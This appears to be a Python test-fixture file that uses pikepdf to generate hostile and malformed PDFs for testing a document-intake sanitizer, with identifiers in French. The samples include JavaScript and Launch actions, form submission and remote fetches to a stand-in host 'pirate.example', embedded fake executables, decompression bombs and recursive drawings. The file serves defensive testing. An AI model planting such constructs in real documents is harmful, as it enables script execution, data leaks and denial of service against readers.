"""Hostile and odd PDFs, one per class of attack, made here: nothing foreign is committed.

Each function returns the bytes of a file; ``FILES`` names them with what intake must say: "" when it takes the file
in, or the code of the refusal.
"""

import warnings
import zlib
from collections.abc import Callable, Mapping, Sequence
from io import BytesIO
from typing import Any

from pikepdf import (
    Array,
    AttachedFileSpec,
    Dictionary,
    Encryption,
    Name,
    Object,
    Page,
    PageCopyWarning,
    Pdf,
    Stream,
    String,
)

MARKER = b"BT /F0 24 Tf 72 700 Td (Bonjour) Tj ET\n"


def blank(pages: int = 1, content: bytes = MARKER, size: tuple[float, float] = (595, 842)) -> Pdf:
    pdf = Pdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica, Encoding=Name.WinAnsiEncoding)
    )
    for _ in range(pages):
        pdf.add_blank_page()
        pdf.pages[-1].obj.MediaBox = Array([0, 0, *size])
        pdf.pages[-1].obj.Resources = Dictionary(Font=Dictionary(F0=font))
        pdf.pages[-1].obj.Contents = pdf.make_stream(content)
    return pdf


def saved(pdf: Pdf, **options: object) -> bytes:
    output = BytesIO()
    pdf.save(output, **options)  # type: ignore[arg-type]
    return output.getvalue()


def link(pdf: Pdf, action: Dictionary, subtype: Name = Name.Link) -> bytes:
    annotate(
        pdf,
        Dictionary(
            Type=Name.Annot, Subtype=subtype, Rect=Array([72, 600, 200, 640]), A=action, Border=Array([0, 0, 0])
        ),
    )
    return saved(pdf)


def annotate(pdf: Pdf, note: Dictionary) -> Object:
    page = pdf.pages[0].obj
    added = pdf.make_indirect(note)
    page.Annots = Array([*page.get("/Annots", Array()), added])
    return added


def javascript_at_opening() -> bytes:
    pdf = blank()
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    return saved(pdf)


def javascript_by_name() -> bytes:
    pdf = blank()
    action = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", action])))
    return saved(pdf)


def additional_actions() -> bytes:
    pdf = blank()
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS="x()"))
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS="y()"))
    return saved(pdf)


def uri() -> bytes:
    return link(blank(), Dictionary(S=Name.URI, URI="https://pirate.example/x"))


def launch() -> bytes:
    return link(blank(), Dictionary(S=Name.Launch, F="calc.exe"))


def submit_form() -> bytes:
    return link(blank(), Dictionary(S=Name.SubmitForm, F="https://pirate.example/"))


def go_to_remote() -> bytes:
    return link(blank(), Dictionary(S=Name.GoToR, F="\\\\pirate.example\\part\\x.pdf", D=Array([0, Name.Fit])))


def go_to_embedded() -> bytes:
    return link(blank(), Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N="x")))


def import_data() -> bytes:
    return link(blank(), Dictionary(S=Name.ImportData, F="x.fdf"))


def rendition() -> bytes:
    return link(blank(), Dictionary(S=Name.Rendition, OP=0), Name.Screen)


def hidden_chain() -> bytes:
    chained = Dictionary(S=Name.JavaScript, JS="z()")
    return link(blank(), Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=chained))


def embedded_file() -> bytes:
    pdf = blank()
    pdf.attachments["charge.exe"] = b"MZ charge"
    return saved(pdf)


def file_attachment() -> bytes:
    pdf = blank()
    stream = pdf.make_stream(b"MZ charge")
    specification = Dictionary(Type=Name.Filespec, F="charge.exe", EF=Dictionary(F=stream))
    annotate(pdf, Dictionary(Subtype=Name.FileAttachment, Rect=Array([72, 600, 90, 620]), FS=specification))
    return saved(pdf)


def rich_media() -> bytes:
    pdf = blank()
    content = Dictionary(Assets=Dictionary(Names=Array([])))
    annotate(pdf, Dictionary(Subtype=Name.RichMedia, Rect=Array([72, 600, 90, 620]), RichMediaContent=content))
    return saved(pdf)


def sound() -> bytes:
    pdf = blank()
    annotate(pdf, Dictionary(Subtype=Name.Sound, Rect=Array([1, 1, 9, 9]), Sound=pdf.make_stream(b"\0", R=8000)))
    return saved(pdf)


def external_stream() -> bytes:
    pdf = blank(content=MARKER + b"/X0 Do\n")
    image = pdf.make_stream(
        b"", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1, BitsPerComponent=8, ColorSpace=Name.DeviceGray,
        F=Dictionary(FS=Name.URL, F="https://pirate.example/pixel"),
    )  # fmt: skip
    pdf.pages[0].obj.Resources.XObject = Dictionary(X0=image)
    return saved(pdf)


def actions_in_resources() -> bytes:
    """Active keys hidden where only page contents should be: forms, private data, metadata."""
    pdf = blank(content=MARKER + b"/X0 Do\n")
    form = pdf.make_stream(b"0 0 9 9 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form.PieceInfo = Dictionary(X=Dictionary(S=Name.JavaScript, JS="x()"))
    form.AF = Array([Dictionary(Type=Name.Filespec, EF=Dictionary(F=pdf.make_stream(b"MZ")))])
    form.Metadata = pdf.make_stream(b"<x/>")
    form.OpenAction = Dictionary(S=Name.Launch, F="x")
    pdf.pages[0].obj.Resources.XObject = Dictionary(X0=form)
    return saved(pdf)


def drawings_that_point_at_pages() -> bytes:
    """Keys of a drawing that lead to other pages: leaving them behind must not touch those pages."""
    pdf = blank(3, content=MARKER + b"/X0 Do\n")
    for page in pdf.pages:
        form = pdf.make_stream(b"0 0 9 9 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
        form.P, form.Parent, form.Next = pdf.pages[2].obj, pdf.Root.Pages, pdf.pages[1].obj
        page.obj.Resources.XObject = Dictionary(X0=form)
    return saved(pdf)


def postscript_object() -> bytes:
    pdf = blank(content=MARKER + b"/X0 Do\n")
    pdf.pages[0].obj.Resources.XObject = Dictionary(X0=pdf.make_stream(b"%!", Type=Name.XObject, Subtype=Name.PS))
    return saved(pdf)


def form_of(value: str, *, generate: bool = True, flags: int = 0) -> bytes:
    pdf = blank()
    font = pdf.pages[0].obj.Resources.Font.F0
    field = annotate(
        pdf,
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="nom", V=value, DA="/Helv 12 Tf 0 g", Ff=flags, F=4,
            Rect=Array([72, 560, 400, 640]), P=pdf.pages[0].obj,
        ),
    )  # fmt: skip
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]), NeedAppearances=generate, DA="/Helv 12 Tf 0 g", DR=Dictionary(Font=Dictionary(Helv=font))
    )
    return saved(pdf)


def form_to_draw() -> bytes:
    return form_of("Hélène à 100 €")


def form_without_appearance() -> bytes:
    return form_of("Reçu le 3 mars", generate=False)


def form_in_a_composite_font() -> bytes:
    """The font of the form reads two bytes a letter, as those that web browsers and WeasyPrint embed."""
    with Pdf.open(BytesIO(form_of("Reçu le 5 mars"))) as pdf:
        glyphs = Dictionary(
            Type=Name.Font, Subtype=Name.CIDFontType2, BaseFont=Name.Sans,
            CIDSystemInfo=Dictionary(Registry="Adobe", Ordering="Identity", Supplement=0),
        )  # fmt: skip
        pdf.Root.AcroForm.DR.Font.Helv = pdf.make_indirect(Dictionary(
            Type=Name.Font, Subtype=Name.Type0, BaseFont=Name.Sans, Encoding=Name("/Identity-H"),
            DescendantFonts=Array([pdf.make_indirect(glyphs)]),
        ))  # fmt: skip
        return saved(pdf)


def form_of_several_lines() -> bytes:
    return form_of("première ligne\nseconde ligne", flags=1 << 12)


def box(state: Name, placed: str = "Rect", rect: Sequence[object] = (72, 560, 172, 660)) -> Callable[[], bytes]:
    """A box to tick, which a program filled in without drawing it: every reader draws its mark."""

    def make() -> bytes:
        pdf = blank()
        field = annotate(
            pdf,
            Dictionary(
                Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T="accepte", V=state, AS=state, F=4,
                P=pdf.pages[0].obj,
            ),
        )  # fmt: skip
        field[f"/{placed}"] = Array(rect)
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]), NeedAppearances=True)
        return saved(pdf)

    return make


def portfolio() -> bytes:
    """Documents under one cover, as Acrobat and Outlook save a folder of messages."""
    pdf = blank(content=MARKER.replace(b"Bonjour", b"Ouvrir avec Acrobat"))
    inside = saved(blank(2, content=MARKER.replace(b"Bonjour", b"Bon de livraison")))
    names = {"<0>livraison.pdf": inside, "<0>../annexes.zip": b"PK\x03\x04", "<1>dire.txt": b"Colis livr\xc3\xa9"}
    for key, content in names.items():
        pdf.attachments[key] = AttachedFileSpec(pdf, content, filename=key[3:])
    pdf.Root.Collection = Dictionary(Type=Name.Collection, View=Name.D)
    return saved(pdf)


def portfolio_of(files: Sequence[tuple[str, bytes]], filtered: Mapping[str, bytes] | None = None) -> bytes:
    """A portfolio, the same bytes written once; ``filtered`` are files whose bytes are said to be compressed."""
    pdf = blank()
    streams = {content: pdf.make_stream(content) for _, content in files}
    held = [(name, streams[content]) for name, content in files]
    held += [(name, Stream(pdf, raw, Filter=Name.FlateDecode)) for name, raw in (filtered or {}).items()]
    for rank, (name, stream) in enumerate(held):
        pdf.attachments[str(rank)] = AttachedFileSpec(pdf, b"", filename=name)
        pdf.attachments[str(rank)].obj.EF = Dictionary(F=stream, UF=stream)
    pdf.Root.Collection = Dictionary(Type=Name.Collection, View=Name.D)
    return saved(pdf)


def portfolio_damaged() -> bytes:
    """One document decompresses to more than a machine holds, the other to nothing."""
    bomb = {"bombe.txt": zlib.compress(bytes(200_000_000), 9), "abime.pdf": b"rien qui soit comprime"}
    return portfolio_of([("livraison.pdf", saved(blank()))], bomb)


def portfolio_nested() -> bytes:
    """A few kilobytes that hold twelve hundred documents, each written once."""
    inside = portfolio_of([(f"{rank}.txt", b"Colis") for rank in range(60)])
    return portfolio_of([(f"{rank:02}.pdf", inside) for rank in range(20)])


def misplaced() -> bytes:
    """A field drawn by its program, whose place is damaged: readers show it, drawn as wide as the margin."""
    pdf = blank()
    drawing = pdf.make_stream(b"0 0 30 30 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 30, 30]))
    place = Array([100, 600, String("130"), 630])
    field = annotate(
        pdf,
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="nom", V="Chimère", F=4, Rect=place,
            AP=Dictionary(N=drawing),
        ),
    )  # fmt: skip
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    return saved(pdf)


def form_not_drawable() -> bytes:
    return form_of("契約書")


def dynamic_form() -> bytes:
    pdf = blank()
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))
    return saved(pdf)


def signed() -> bytes:
    pdf = blank()
    value = Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), ByteRange=Array([0, 1, 2, 3]), Contents=b"\0")
    field = annotate(
        pdf,
        Dictionary(Subtype=Name.Widget, FT=Name.Sig, T="sig", V=pdf.make_indirect(value), Rect=Array([0, 0, 0, 0])),
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)
    return saved(pdf)


def layered(content: bytes, *, membership: Callable[[Pdf, Object, Object], Object] | None = None) -> bytes:
    pdf = blank(content=MARKER + content)
    shown = pdf.make_indirect(Dictionary(Type=Name.OCG, Name="visible"))
    masked = pdf.make_indirect(Dictionary(Type=Name.OCG, Name="masqué"))
    resources = pdf.pages[0].obj.Resources
    resources.Properties = Dictionary(On=shown, Off=membership(pdf, shown, masked) if membership else masked)
    square = pdf.make_stream(
        b"100 100 300 300 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 600, 600]), OC=masked
    )
    nested = pdf.make_stream(
        b"/OC /Off BDC 100 100 300 300 re f EMC", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 600, 600]),
        Resources=Dictionary(Properties=Dictionary(Off=masked)),
    )  # fmt: skip
    resources.XObject = Dictionary(Square=square, Nested=nested)
    pdf.Root.OCProperties = Dictionary(OCGs=Array([shown, masked]), D=Dictionary(OFF=Array([masked])))
    return saved(pdf)


def hidden_layer() -> bytes:
    return layered(b"/OC /Off BDC 100 100 300 300 re f EMC")


def hidden_layer_in_objects() -> bytes:
    return layered(b"/Square Do /Nested Do")


def hidden_layer_by_policy() -> bytes:
    def all_on(pdf: Pdf, shown: Object, masked: Object) -> Object:
        return pdf.make_indirect(Dictionary(Type=Name.OCMD, OCGs=Array([shown, masked]), P=Name.AllOn))

    return layered(b"/OC /Off BDC 100 100 300 300 re f EMC", membership=all_on)


def hidden_layer_by_expression() -> bytes:
    def negation(pdf: Pdf, shown: Object, _masked: Object) -> Object:
        return pdf.make_indirect(Dictionary(Type=Name.OCMD, VE=Array([Name.Not, shown])))

    return layered(b"/OC /Off BDC 100 100 300 300 re f EMC", membership=negation)


def user_password() -> bytes:
    return saved(blank(), encryption=Encryption(owner="o", user="secret"))


def empty_password() -> bytes:
    return saved(blank(), encryption=Encryption(owner="o", user=""))


def content_bomb() -> bytes:
    pdf = blank()
    pdf.pages[0].obj.Contents = bomb(pdf, 120_000_000)
    return saved(pdf, compress_streams=False, stream_decode_level=None)


def image_bomb() -> bytes:
    pdf = blank(content=MARKER + b"/X0 Do\n")
    stream = bomb(pdf, 610_000_000)
    for key, value in {"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 30000, "/Height": 30000,
                       "/BitsPerComponent": 8, "/ColorSpace": Name.DeviceGray}.items():  # fmt: skip
        stream[key] = value
    pdf.pages[0].obj.Resources.XObject = Dictionary(X0=stream)
    return saved(pdf)


def forms_in_forms() -> bytes:
    """Thirty forms, each drawn ten times by the next: a few kilobytes, 10^30 squares."""
    pdf = blank()
    inner: Object | None = None
    for _ in range(30):
        form = pdf.make_stream(b"0 0 1 1 re f" if inner is None else b"/A Do " * 10)
        form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 595, 842])
        if inner is not None:
            form.Resources = Dictionary(XObject=Dictionary(A=inner))
        inner = form
    return _drawing(pdf, inner)


def form_in_itself() -> bytes:
    pdf = blank()
    form = pdf.make_stream(b"/A Do /A Do 0 0 1 1 re f")
    form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 595, 842])
    form.Resources = Dictionary(XObject=Dictionary(A=form))
    return _drawing(pdf, form)


def _drawing(pdf: Pdf, form: Object | None) -> bytes:
    page = pdf.pages[0].obj
    page.Resources.XObject = Dictionary(A=form)
    page.Contents = pdf.make_stream(MARKER + b"/A Do")
    return saved(pdf)


def bomb(pdf: Pdf, size: int) -> Stream:
    engine = zlib.compressobj(1)
    parts = [engine.compress(b" " * 10_000_000) for _ in range(size // 10_000_000)]
    stream = Stream(pdf, b"".join([*parts, engine.flush()]))
    stream.Filter = Name.FlateDecode
    return stream


def many_filters() -> bytes:
    pdf = blank()
    stream = Stream(pdf, b"00>")
    stream.Filter = Array([Name.ASCIIHexDecode] * 60)
    pdf.pages[0].obj.Contents = stream
    return saved(pdf)


def deep_arrays() -> bytes:
    return saved(blank()).replace(b"/MediaBox", b"/Deep " + b"[" * 3000 + b"]" * 3000 + b" /MediaBox")


def page_tree_loop() -> bytes:
    data = saved(blank(2), object_stream_mode=0)
    with Pdf.open(BytesIO(data)) as pdf:
        pdf.trailer.Root.Pages.Kids.append(pdf.trailer.Root.Pages)
        return saved(pdf)


def no_page() -> bytes:
    return saved(Pdf.new())


def huge_page() -> bytes:
    return saved(blank(size=(200_000, 200_000)))


def tiny_page() -> bytes:
    return saved(blank(size=(2, 2)))


def truncated() -> bytes:
    data = saved(blank(3))
    return data[: len(data) // 3]


def broken_table() -> bytes:
    data = saved(blank(3), object_stream_mode=0)
    return data[: data.rindex(b"xref")] + b"xref\n0 1\ngarbage\ntrailer\n<</Root 1 0 R>>\nstartxref\n9999999\n%%EOF\n"


def without_pages() -> bytes:
    return b"%PDF-1.4\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n"


def page_in_web_clothes() -> bytes:
    return b"<!DOCTYPE html><html><body>Facture</body></html>"


def archive_in_clothes() -> bytes:
    return b"PK\x03\x04" + b"\0" * 100


def lfs_pointer() -> bytes:
    return b"version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 12345\n"


def cropped() -> bytes:
    pdf = blank(content=MARKER + b"0 0 60 60 re f")
    pdf.pages[0].obj.CropBox = Array([60, 60, 500, 800])
    return saved(pdf)


def turned(angle: int) -> Callable[[], bytes]:
    def make() -> bytes:
        pdf = blank(content=MARKER + b"50 50 100 20 re f", size=(595, 700))
        pdf.pages[0].obj.Rotate = angle
        return saved(pdf)

    return make


def odd_sizes() -> bytes:
    pdf = blank(content=MARKER + b"10 10 30 60 re f", size=(842, 1191))
    for width, height in ((1191, 842), (226, 600), (842, 595), (612, 792), (300, 100)):
        pdf.add_blank_page(page_size=(width, height))
        pdf.pages[-1].obj.Contents = pdf.make_stream(b"10 10 30 60 re f")
    return saved(pdf)


def till_roll() -> bytes:
    """A receipt of 80 mm by 67 cm, as a scanner with a feeder gives it."""
    return saved(blank(size=(227, 1900)))


def odd_boxes() -> bytes:
    """Corners in the wrong order, origin elsewhere, a user unit, an unbalanced state, contents cut inside a word."""
    pdf = blank()
    page = pdf.pages[0].obj
    page.MediaBox = Array([500, 900, -100, 100])
    page.UserUnit = 1.5
    page.Contents = Array([pdf.make_stream(b"q q 0.5 0 0 0.5 0 0 cm 100 300 200 4"), pdf.make_stream(b"00 re f")])
    return saved(pdf)


def inherited() -> bytes:
    pdf = blank(2)
    tree = pdf.Root.Pages
    for page in pdf.pages:
        tree.Resources = page.obj.Resources
        tree.MediaBox = page.obj.MediaBox
        tree.Rotate = 90
        del page.obj["/Resources"], page.obj["/MediaBox"]
    return saved(pdf)


def transparent() -> bytes:
    pdf = blank(content=MARKER + b"/G0 gs 1 0 0 rg 100 100 200 200 re f 0 0 1 rg 200 200 200 200 re f")
    pdf.pages[0].obj.Resources.ExtGState = Dictionary(G0=Dictionary(ca=0.5, BM=Name.Multiply))
    pdf.pages[0].obj.Group = Dictionary(S=Name.Transparency, CS=Name.DeviceRGB)
    return saved(pdf)


def annotated() -> bytes:
    """Stamps someone put on the page, one hidden, one neither shown nor printed: what is seen stays, the rest goes."""
    pdf = blank()
    stamp = pdf.make_stream(b"0 0 90 40 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 90, 40]))
    for flags, bottom in ((4, 500), (2, 300), (32, 200)):
        box = Array([100, bottom, 190, bottom + 40])
        annotate(pdf, Dictionary(Subtype=Name.Stamp, Rect=box, F=flags, AP=Dictionary(N=stamp)))
    return saved(pdf)


def mark(kind: str, bottom: float, **more: Any) -> Dictionary:
    """A mark left to the reader to draw, in a box of 200 by 30 points."""
    box = [100.0, bottom, 300.0, bottom + 30]
    return Dictionary(Type=Name.Annot, Subtype=Name("/" + kind), Rect=Array(box), F=4, C=Array([1, 0, 0]), **more)


def quads(bottom: float) -> Array:
    return Array([100, bottom + 30, 300, bottom + 30, 100, bottom, 300, bottom])


def marked() -> bytes:
    """Every kind of mark without a drawing of its own."""
    pdf = blank()
    astray = mark("Highlight", 740, QuadPoints=quads(740))
    astray.Rect = Array([700, 90, 600, 20])  # some programs write a box elsewhere, its corners in any order
    for note in (
        astray, mark("Underline", 690, QuadPoints=quads(690)),
        mark("StrikeOut", 640, QuadPoints=quads(640)), mark("Square", 590, BS=Dictionary(W=3)),
        mark("Circle", 540, IC=Array([0, 0, 1]), BS=Dictionary(W=2)), mark("Line", 490, L=Array([100, 490, 300, 520])),
        mark("Ink", 440, InkList=Array([Array([100, 440, 200, 470, 300, 440])]), BS=Dictionary(W=3)),
        mark("Polygon", 390, Vertices=Array([100, 390, 300, 390, 200, 420])),
        mark("PolyLine", 340, Vertices=Array([100, 340, 200, 370, 300, 340])),
    ):  # fmt: skip
        annotate(pdf, note)
    return saved(pdf)


def written_in_the_margin() -> bytes:
    pdf = blank()
    annotate(pdf, mark("FreeText", 300, DA="/Helv 10 Tf", Contents="Reçu sans réserve"))
    return saved(pdf)


def commented() -> bytes:
    """What only a reader can show: a comment, a mark whose data are damaged, a text longer than its box."""
    pdf = blank()
    annotate(pdf, mark("Text", 500, Contents="à vérifier"))
    annotate(pdf, mark("Line", 400, L=Array([1])))
    annotate(pdf, mark("FreeText", 300, DA="/Helv 10 Tf", Contents="trop long\n" * 20))
    return saved(pdf)


def fields_without_their_form() -> bytes:
    """A page taken out of a form: its field remains, not the form that says the font."""
    with Pdf.open(BytesIO(form_of("Reçu le 4 mars", generate=False))) as pdf, warnings.catch_warnings():
        warnings.simplefilter("ignore", PageCopyWarning)
        del pdf.Root.AcroForm
        return saved(pdf)


def notes_of_two_pages() -> bytes:
    """Two pages that share one list of annotations."""
    with Pdf.open(BytesIO(annotated())) as pdf:
        pdf.pages.append(pdf.pages[0])
        shared = pdf.make_indirect(pdf.pages[0].obj.Annots)
        for page in pdf.pages:
            page.obj.Annots = shared
        return saved(pdf)


def no_resources() -> bytes:
    pdf = Pdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    return saved(pdf)


def page_without_contents() -> bytes:
    pdf = Pdf.new()
    page = Dictionary(Type=Name.Page, MediaBox=Array([0, 0, 595, 842]))
    pdf.pages.append(Page(pdf.make_indirect(page)))
    return saved(pdf)


def damaged_image() -> bytes:
    pdf = blank(content=MARKER + b"q 100 0 0 100 100 100 cm /X0 Do Q\n")
    stream = Stream(pdf, b"this is not deflated")
    for key, value in {"/Type": Name.XObject, "/Subtype": Name.Image, "/Width": 10, "/Height": 10, "/Filter":
                       Name.FlateDecode, "/BitsPerComponent": 8, "/ColorSpace": Name.DeviceGray}.items():  # fmt: skip
        stream[key] = value
    pdf.pages[0].obj.Resources.XObject = Dictionary(X0=stream)
    return saved(pdf)


def damaged_picture_among_instructions() -> bytes:
    """A picture in the drawing itself, with a remark beside it, whose last key has no value."""
    return saved(blank(content=MARKER + b"% un mot\nBI /W 1 /H 1 /BPC 8 /CS ID x EI\n"))


def drawing_kept_as_a_picture() -> bytes:
    """Instructions under a filter of pictures: reading them takes a program of the machine."""
    pdf = blank()
    pdf.pages[0].obj.Contents = Stream(pdf, b"\0" * 20, Filter=Name.JBIG2Decode)
    return saved(pdf)


def resources_kept_as_a_stream() -> bytes:
    """A form whose resources are those of a stream, as a program that filled a form in wrote them."""
    pdf = blank(content=b"q /X0 Do Q\n")
    form = pdf.make_stream(MARKER, Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 595, 842]))
    form.Resources = pdf.make_stream(b"", Font=pdf.pages[0].obj.Resources.Font, BBox=Array([0, 0, 1, 1]))
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(X0=form))
    return saved(pdf)


def several_saves() -> bytes:
    return saved(blank()) + b"\n%%EOF\n%%EOF\n"


def leading_noise() -> bytes:
    return b"From the scanner\n" + saved(blank())


FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    "javascript-ouverture": (javascript_at_opening, ""),
    "javascript-nom": (javascript_by_name, ""),
    "actions-additionnelles": (additional_actions, ""),
    "uri": (uri, ""),
    "launch": (launch, ""),
    "submit": (submit_form, ""),
    "gotor": (go_to_remote, ""),
    "gotoe": (go_to_embedded, ""),
    "import": (import_data, ""),
    "rendition": (rendition, ""),
    "chaine": (hidden_chain, ""),
    "embarque": (embedded_file, ""),
    "trombone": (file_attachment, ""),
    "richmedia": (rich_media, ""),
    "son": (sound, ""),
    "portfolio": (portfolio, ""),
    "portfolio-abime": (portfolio_damaged, ""),
    "portfolio-emboite": (portfolio_nested, ""),
    "flux-externe": (external_stream, ""),
    "ressources-actives": (actions_in_resources, ""),
    "renvois-aux-pages": (drawings_that_point_at_pages, ""),
    "postscript": (postscript_object, ""),
    "formulaire": (form_to_draw, ""),
    "formulaire-sans-apparence": (form_without_appearance, ""),
    "formulaire-police-composite": (form_in_a_composite_font, ""),
    "formulaire-lignes": (form_of_several_lines, ""),
    "formulaire-detache": (fields_without_their_form, ""),
    "case-cochee": (box(Name.Oui), ""),
    "case-vide": (box(Name.Off), ""),
    "case-nulle-part": (box(Name.Oui, placed="Ailleurs"), ""),
    "case-mal-placee": (box(Name.Oui, rect=(72, 560, String("172"), 660)), ""),  # readers take 0 for the third edge
    "case-a-trois-bords": (box(Name.Oui, rect=(72, 560, 172)), ""),  # no reader shows it
    "champ-mal-place": (misplaced, ""),
    "annotations-partagees": (notes_of_two_pages, ""),
    "marques": (marked, ""),
    "marge": (written_in_the_margin, ""),
    "commente": (commented, ""),
    "formulaire-japonais": (form_not_drawable, "champ"),
    "xfa": (dynamic_form, "xfa"),
    "signe": (signed, ""),
    "calque": (hidden_layer, ""),
    "calque-objets": (hidden_layer_in_objects, ""),
    "calque-politique": (hidden_layer_by_policy, ""),
    "calque-expression": (hidden_layer_by_expression, ""),
    "mot-de-passe": (user_password, "mot-de-passe"),
    "sans-mot-de-passe": (empty_password, "chiffre"),
    "bombe": (content_bomb, "bombe"),
    "bombe-image": (image_bomb, "bombe"),
    "formes": (forms_in_forms, "bombe"),
    "forme-en-elle": (form_in_itself, ""),
    "filtres": (many_filters, "bombe"),
    "tableaux": (deep_arrays, "bombe"),
    "boucle": (page_tree_loop, "corrompu"),
    "zero-page": (no_page, "zero-page"),
    "geante": (huge_page, "dimension"),
    "minuscule": (tiny_page, "dimension"),
    "tronque": (truncated, ""),
    "table-cassee": (broken_table, ""),
    "sans-arbre": (without_pages, "zero-page"),
    "html": (page_in_web_clothes, "html"),
    "zip": (archive_in_clothes, "extension"),
    "lfs": (lfs_pointer, "lfs"),
    "vide": (bytes, "vide"),
    "rogne": (cropped, ""),
    "tourne-90": (turned(90), ""),
    "tourne-180": (turned(180), ""),
    "tourne-270": (turned(270), ""),
    "dimensions": (odd_sizes, ""),
    "ticket": (till_roll, ""),
    "cadres": (odd_boxes, ""),
    "herite": (inherited, ""),
    "transparence": (transparent, ""),
    "annote": (annotated, ""),
    "sans-ressources": (no_resources, ""),
    "sans-contenu": (page_without_contents, ""),
    "image-abimee": (damaged_image, ""),
    "image-abimee-en-ligne": (damaged_picture_among_instructions, ""),
    "dessin-en-image": (drawing_kept_as_a_picture, "corrompu"),
    "ressources-en-flux": (resources_kept_as_a_stream, ""),
    "enregistrements": (several_saves, ""),
    "bruit-devant": (leading_noise, ""),
}
